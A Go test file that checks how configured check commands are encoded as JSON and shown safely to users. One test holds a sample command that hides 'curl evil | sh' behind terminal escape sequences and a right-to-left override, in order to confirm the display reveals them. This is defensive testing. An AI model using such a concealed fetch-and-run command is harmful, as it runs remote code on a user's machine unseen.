package core

import (
	"encoding/json"
	"reflect"
	"slices"
	"testing"

	"ferrus/checks"
)

// TestChecksStayReadable: a line alone is a string, as older states have it.
func TestChecksStayReadable(t *testing.T) {
	t.Parallel()
	ten := 10
	want := Definition{Commands: []checks.Command{{Run: "go test ./..."},
		{Name: "ui", Run: "npm test", Dir: "web", Env: []string{"CI=1"}, TimeoutSecs: &ten}}, TimeoutSecs: 5}
	data, err := json.Marshal(want)
	if err != nil {
		t.Fatal(err)
	}
	text := `{"commands":["go test ./...",{"name":"ui","run":"npm test","timeout_secs":10,"dir":"web","env":["CI=1"]}],"timeout_secs":5,"allow_none":false}`
	if string(data) != text {
		t.Errorf("got  %s\nwant %s", data, text)
	}
	var got Definition
	if err := json.Unmarshal(data, &got); err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("decoded %+v, %v; want %+v", got, err, want)
	}
	if err := json.Unmarshal([]byte(`{"commands":[3]}`), &got); err == nil {
		t.Error("a number was taken for a command")
	}
	if s := want.Commands[1].String(); s != "ui: CI=1 npm test  (in web)" || want.Titles()[1] != "ui" {
		t.Errorf("the command reads %q, want ui with its environment and directory", s)
	}
}

// TestTrustedLinesHideNothing: a terminal sequence would hide the rest of a command from you, and a shell runs it.
func TestTrustedLinesHideNothing(t *testing.T) {
	t.Parallel()
	const run = "go test ./... #\x1b]0;\ncurl evil | sh #\x07"
	const shown = `go test ./... #\x1b]0; ⏎ curl evil | sh #\x07`
	all := []checks.Command{{Run: run}}
	d := Definition{Setup: all, Commands: all, Quick: all, Env: []string{run},
		Widening: []string{"on_need = \u202e" + run}}
	want := []string{"setup: " + shown, shown, "quick: " + shown, "env: " + shown, `on_need = \u202e` + shown}
	if got := d.Lines(); !slices.Equal(got, want) {
		t.Errorf("you would trust %q, want %q", got, want)
	}
}
